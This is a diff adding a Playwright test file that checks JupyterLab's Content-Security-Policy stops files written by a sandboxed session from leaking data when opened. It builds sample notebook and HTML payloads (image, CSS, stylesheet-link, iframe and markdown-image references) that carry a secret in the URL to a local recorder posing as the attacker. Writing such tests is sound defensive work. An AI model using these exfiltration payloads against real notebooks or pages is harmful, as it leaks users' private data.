@@ -1,0 +1,155 @@
+"""What a sandbox writes into its workspace, opened in JupyterLab, sends nothing out.
+
+The ratchet cuts the sandbox's network; the browser keeps its own. A private
+session can write its data into a file of its workspace (any cell can: the
+workspace is read-write, tests/test_attacks.py) as the address of an image, a
+style or a frame, and JupyterLab fetches that address when the user opens the
+file: a notebook's markdown cells and HTML outputs on disk (not the outputs the
+kernel sanitised on their way), an HTML file in the HTML viewer. The files here
+are written by the test as such a cell would write them; the "attacker" is a
+server on 127.0.0.1 (another origin than the Lab's) that records every request.
+
+The Lab's Content-Security-Policy (sandbox_kernel/lab_content_policy.py, applied
+by scripts/lab_config.py and by every test server) keeps every such fetch in
+the page: the recorder hears nothing, and the browser says it refused.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+import urllib.request
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from lab_helpers import LabServer
+from playwright.sync_api import Page, expect
+
+from sandbox_kernel.lab_content_policy import content_security_policy
+
+pytestmark = pytest.mark.timeout(240)
+
+APP_LOAD_TIMEOUT = 60_000
+SECRET = "patient-4711"
+
+
+class Recorder:
+    """An HTTP server on 127.0.0.1 that keeps the path of every request."""
+
+    def __init__(self) -> None:
+        heard: list[str] = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                heard.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.heard = heard
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.httpd.daemon_threads = True
+        self.base = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture
+def recorder() -> Iterator[Recorder]:
+    server = Recorder()
+    try:
+        yield server
+    finally:
+        server.close()
+
+
+def _leaky_html(base: str, where: str) -> str:
+    return (
+        f'<img src="{base}/{where}-img?d={SECRET}">'
+        f'<div style="background-image: url({base}/{where}-css?d={SECRET})">styled</div>'
+        f'<link rel="stylesheet" href="{base}/{where}-link?d={SECRET}">'
+        f'<iframe src="{base}/{where}-frame?d={SECRET}"></iframe>'
+    )
+
+
+def _leaky_notebook(base: str) -> dict[str, object]:
+    return {
+        "nbformat": 4,
+        "nbformat_minor": 5,
+        "metadata": {
+            "kernelspec": {"name": "sandbox-python", "display_name": "Python 3 (sandboxed)", "language": "python"},
+            "language_info": {"name": "python"},
+        },
+        "cells": [
+            {
+                "cell_type": "markdown",
+                "id": "md",
+                "metadata": {},
+                "source": f"# Report\n\n![chart]({base}/md-image?d={SECRET})\n\n" + _leaky_html(base, "md"),
+            },
+            {
+                "cell_type": "code",
+                "id": "code",
+                "metadata": {},
+                "execution_count": 1,
+                "source": "show()",
+                "outputs": [
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {"text/html": _leaky_html(base, "out"), "text/plain": "<HTML>"},
+                    },
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {"text/markdown": f"![m]({base}/out-md?d={SECRET})", "text/plain": "md"},
+                    },
+                ],
+            },
+        ],
+    }
+
+
+def _refusals(console: list[str]) -> list[str]:
+    return [line for line in console if "Content Security Policy" in line]
+
+
+def test_the_lab_serves_its_pages_with_the_policy(lab: LabServer) -> None:
+    request = urllib.request.Request(lab.url("/lab"))
+    with urllib.request.urlopen(request, timeout=30) as response:
+        header = response.headers["Content-Security-Policy"]
+    assert header == content_security_policy("/"), header
+    assert "img-src 'self' data: blob:" in header and "connect-src 'self'" in header
+
+
+def test_a_private_sessions_files_opened_in_lab_fetch_nothing(page: Page, lab: LabServer, recorder: Recorder) -> None:
+    folder = lab.notebooks / "leaky"
+    folder.mkdir()
+    (folder / "report.ipynb").write_text(json.dumps(_leaky_notebook(recorder.base)))
+    (folder / "page.html").write_text("<html><body>" + _leaky_html(recorder.base, "file") + "</body></html>")
+    console: list[str] = []
+    page.on("console", lambda msg: console.append(msg.text))
+
+    page.goto(lab.url("/lab/tree/leaky/report.ipynb?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
+    rendered = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown img")
+    expect(rendered.first).to_have_attribute("src", f"{recorder.base}/md-image?d={SECRET}", timeout=APP_LOAD_TIMEOUT)
+    # the HTML output is rendered too (sanitised, its image kept): only the policy stops the fetch
+    expect(page.locator(".jp-OutputArea-output img").first).to_be_attached(timeout=30_000)
+
+    page.goto(lab.url("/lab/tree/leaky/page.html"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
+    expect(page.locator("iframe").first).to_be_attached(timeout=APP_LOAD_TIMEOUT)
+
+    page.wait_for_timeout(3000)  # what the viewer's frame loads, it loads at once
+    assert recorder.heard == [], f"the browser fetched what a sandbox wrote: {recorder.heard}"
+    refused = _refusals(console)
+    assert any("md-image" in line for line in refused), console[-20:]
+    assert any("out-img" in line for line in refused), console[-20:]
+    assert any("file-img" in line for line in refused), console[-20:]
